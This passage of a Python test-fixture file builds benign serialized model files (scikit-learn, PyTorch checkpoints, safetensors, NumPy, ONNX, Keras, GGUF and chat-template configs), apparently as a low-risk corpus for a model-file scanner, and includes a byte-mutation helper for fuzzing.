            "tree": DecisionTreeClassifier(), "pca": PCA(2), "kmeans": KMeans(3, n_init=1, random_state=0),
            "log1p": make_pipeline(FunctionTransformer(np.log1p), LogisticRegression(max_iter=300)),
        }
        for name, est in estimators.items():
            est.fit(x, y)
            add(f"sk_{name}.joblib", dumped(est), "sklearn")
        add("sk_forest_p2.pkl", pickle.dumps(estimators["forest"], protocol=2), "sklearn")
        add("sk_svc_p5.pkl", pickle.dumps(estimators["svc"], protocol=5), "sklearn")
        for method in ("zlib", "gzip", "bz2", "xz", "lzma"):
            add(f"sk_logreg.joblib.{method}", dumped(estimators["logreg"], compress=(method, 3)), "sklearn")
        for name in ("logreg", "log1p"):
            buf = io.BytesIO()
            sio.dump(estimators[name], buf)
            add(f"sk_{name}.skops", buf.getvalue(), "skops")

    torch.manual_seed(0)
    net = torch.nn.Sequential(torch.nn.Conv2d(1, 4, 3), torch.nn.BatchNorm2d(4), torch.nn.ReLU(),
                              torch.nn.Flatten(), torch.nn.Linear(4 * 6 * 6, 10))
    for name, obj, kwargs in (("state_dict.pt", net.state_dict(), {}), ("full_module.pt", net, {}),
                              ("legacy_state_dict.pt", net.state_dict(), {"_use_new_zipfile_serialization": False}),
                              ("tensors.pt", {"a": torch.arange(5), "b": [torch.ones(2, 2)]}, {})):
        buf = io.BytesIO()
        torch.save(obj, buf, **kwargs)
        add(name, buf.getvalue(), "pytorch")
    buf = io.BytesIO()
    torch.jit.save(torch.jit.trace(net.eval(), torch.zeros(1, 1, 8, 8)), buf)
    add("traced.torchscript.pt", buf.getvalue(), "pytorch")
    add("weights.safetensors", st_torch({k: v.contiguous() for k, v in net.state_dict().items()}), "tensors")
    add("arrays.safetensors", st_numpy({"w": np.ones((3, 4), np.float32)}), "tensors")
    for name, arr in (("floats.npy", np.linspace(0, 1, 50)), ("ints.npy", np.arange(12).reshape(3, 4)),
                      ("records.npy", np.zeros(3, dtype=[("a", "<f4"), ("b", "<i8")]))):
        buf = io.BytesIO()
        np.save(buf, arr)
        add(name, buf.getvalue(), "numpy")
    buf = io.BytesIO()
    np.savez_compressed(buf, x=x.astype(np.float32), y=y)
    add("dataset.npz", buf.getvalue(), "numpy")
    add("arrays_p2.pkl", pickle.dumps({"w": np.ones(3), "rng": np.random.default_rng(0)}, protocol=2), "numpy")
    add("model.onnx", onnx_model(), "onnx")
    add("model_external.onnx", onnx_model(external="weights.bin"), "onnx")
    add("dense.keras", keras_zip(dense_config()), "keras")
    add("chat.gguf", gguf(CHAT_TEMPLATE), "gguf")
    add("tokenizer_config.json", json.dumps({"chat_template": CHAT_TEMPLATE, "bos_token": "<s>"}).encode(), "gguf")
    add("dense_legacy.h5", fake_h5({"class_name": "Sequential", "config": {"layers": [
        {"class_name": "Dense", "config": {"units": 3, "activation": "relu"}}]}}), "keras")
    for name, tpl in (("chatml", CHATML_TEMPLATE), ("llama3", LLAMA3_TEMPLATE), ("mistral", MISTRAL_TEMPLATE),
                      ("tools", TOOLS_TEMPLATE)):
        add(f"{name}_tokenizer_config.json", json.dumps({"chat_template": tpl, "bos_token": "<s>",
                                                          "eos_token": "</s>", "model_max_length": 8192}).encode(),
            "templates")
    named = [{"name": "default", "template": LLAMA3_TEMPLATE}, {"name": "tool_use", "template": TOOLS_TEMPLATE}]
    add("chat_template.json", json.dumps({"chat_template": named}).encode(), "templates")
    add("llama3.gguf", gguf(LLAMA3_TEMPLATE), "templates")
    cases += _checkpoint_cases()
    add("README.md", b"# model card\n\nA small model.\n", "other")
    add("config.json", json.dumps({"hidden_size": 8, "architectures": ["Net"]}).encode(), "other")
    return tuple(cases)


def _checkpoint_cases() -> list[Case]:
    """Training checkpoints as people save them: optimizer and scheduler state, run arguments, paths, quantized,
    sparse and low-precision tensors, NumPy 2 string arrays."""
    import argparse
    import pathlib
    import warnings

    import numpy as np
    import torch

    torch.manual_seed(0)
    net = torch.nn.Sequential(torch.nn.Linear(4, 8), torch.nn.ReLU(), torch.nn.Linear(8, 2))
    adam = torch.optim.Adam(net.parameters())
    net(torch.randn(3, 4)).sum().backward()
    adam.step()
    sched = torch.optim.lr_scheduler.StepLR(adam, 2)
    args = argparse.Namespace(lr=1e-3, epochs=3, data=pathlib.Path("data/train"), out=pathlib.PurePosixPath("runs/1"))
    with warnings.catch_warnings():
        warnings.simplefilter("ignore")
        quantized = {"q": torch.quantize_per_tensor(torch.randn(4), 0.1, 0, torch.qint8),
                     "qc": torch.quantize_per_channel(torch.randn(3, 4), torch.tensor([0.1, 0.2, 0.3]),
                                                      torch.tensor([0, 0, 0]), 0, torch.quint8)}
        sparse = {"coo": torch.randn(3, 3).to_sparse(), "csr": torch.randn(3, 3).to_sparse_csr()}
        qlinear = torch.ao.nn.quantized.Linear(4, 2).state_dict()
    objects = {
        "ckpt_adam.pt": {"model": net.state_dict(), "optimizer": adam.state_dict(), "scheduler": sched.state_dict(),
                         "epoch": 3, "args": args, "rng": torch.get_rng_state()},
        "ckpt_sgd.pt": torch.optim.SGD(net.parameters(), lr=0.1, momentum=0.9).state_dict(),
        "quantized.pt": quantized, "quantized_linear.pt": qlinear, "sparse.pt": sparse,
        "low_precision.pt": {"bf16": torch.ones(3, dtype=torch.bfloat16), "i8": torch.ones(3, dtype=torch.int8),
                             "f16": torch.ones(2, dtype=torch.float16)},
    }
    cases = []
    for name, obj in objects.items():
        buf = io.BytesIO()
        torch.save(obj, buf)
        cases.append(Case(name, buf.getvalue(), "low", None, "checkpoints"))
    cases.append(Case("args_paths.pkl", pickle.dumps({"args": args, "cwd": pathlib.PurePosixPath("/srv/run")}, 4),
                      "low", None, "checkpoints"))
    if hasattr(np, "dtypes") and hasattr(np.dtypes, "StringDType"):
        strings = np.array(["a", "longer text"], dtype=np.dtypes.StringDType())
        cases.append(Case("numpy_strings.pkl", pickle.dumps(strings, 5), "low", None, "checkpoints"))
    return cases


def mutate(seed: bytes, edits: list[tuple[str, int, int]]) -> bytes:
    """`seed` with each (flip | insert | delete, position, byte) edit applied in turn (positions wrap around)."""
    data = bytearray(seed)
    for kind, pos, value in edits:
        at = pos % (len(data) + 1)
        if kind == "insert":
            data[at:at] = bytes([value])
        elif data and kind == "flip":
            data[at % len(data)] = value
        elif data:
            del data[at % len(data)]
    return bytes(data)
